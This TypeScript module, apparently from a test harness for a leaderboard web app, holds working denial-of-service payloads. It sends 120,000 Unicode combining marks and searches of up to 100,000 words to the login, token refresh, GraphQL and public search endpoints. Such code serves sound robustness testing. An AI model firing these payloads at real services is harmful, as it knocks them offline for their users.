import { each, jsonPost, send, type AttackContext } from './attack.ts';

/** Alternating marks above and below, which normalization must sort. */
const MARKS = '\u0301\u0316';
/** Characters: 120,000 marks, and just below the limit of a body without a token. */
const SIZES = [120_000, 7_000];
const SEARCH = 'query ($search: String) { leaderboard(division: REGULAR, search: $search) { total } }';
const REFRESH =
  'mutation ($text: String) { refreshSession(rememberMeToken: $text, deviceFingerprint: $text) { token } }';
const MAX_URL_BYTES = 15_000;

const WIDTH = 4;

/** One login whose user name is 120,000 combining marks. */
export async function oneLongName(context: AttackContext): Promise<void> {
  await send(context, '/api/login', jsonPost({ username: MARKS.repeat(60_000), password: 'x' }));
}

/** One search of the board for 100,000 words. */
export async function oneLongSearch(context: AttackContext): Promise<void> {
  await send(context, '/graphql', jsonPost({ query: SEARCH, variables: { search: 'c '.repeat(100_000) } }));
}

/** Combining marks in all texts that a visitor can send. */
export async function combiningMarks(context: AttackContext): Promise<void> {
  const texts = SIZES.map((size) => MARKS.repeat(size / MARKS.length));
  const shorter = MARKS.repeat(Math.floor(MAX_URL_BYTES / encodeURIComponent(MARKS).length));
  const attempts = texts.flatMap((text) => [
    () => send(context, '/api/login', jsonPost({ username: text, password: 'x' })),
    () => send(context, '/api/login', jsonPost({ username: 'admin', password: text })),
    () => send(context, '/api/login', jsonPost({ username: 'admin', password: 'x', deviceFingerprint: text })),
    () => send(context, '/api/login', jsonPost({ username: 'admin', password: 'x', twoFactorCode: text })),
    () => send(context, '/api/auth/refresh', jsonPost({ rememberMeToken: text, deviceFingerprint: text })),
    () => send(context, '/graphql', jsonPost({ query: SEARCH, variables: { search: text } })),
    () => send(context, '/graphql', jsonPost({ query: REFRESH, variables: { text } })),
    () =>
      send(
        context,
        '/graphql',
        jsonPost({ query: `{ leaderboard(division: REGULAR, search: ${JSON.stringify(text)}) { total } }` }),
      ),
  ]);
  attempts.push(() => send(context, `/api/entries/public?search=${encodeURIComponent(shorter)}`));
  await each(context, { items: attempts, width: WIDTH }, (attempt) => attempt());
}

/** Sends searches with more words than a visitor types; each word is in every name on the board. */
export async function manyWords(context: AttackContext): Promise<void> {
  const searches = [100_000, 7_000, 4_000].map((words) => 'c '.repeat(words));
  const attempts = searches.map(
    (search) => () => send(context, '/graphql', jsonPost({ query: SEARCH, variables: { search } })),
  );
  attempts.push(
    ...[7_000, 4_000, 2_000].map((words) => () => send(context, `/api/entries/public?search=${'c+'.repeat(words)}`)),
  );
  await each(context, { items: attempts, width: WIDTH }, (attempt) => attempt());
}
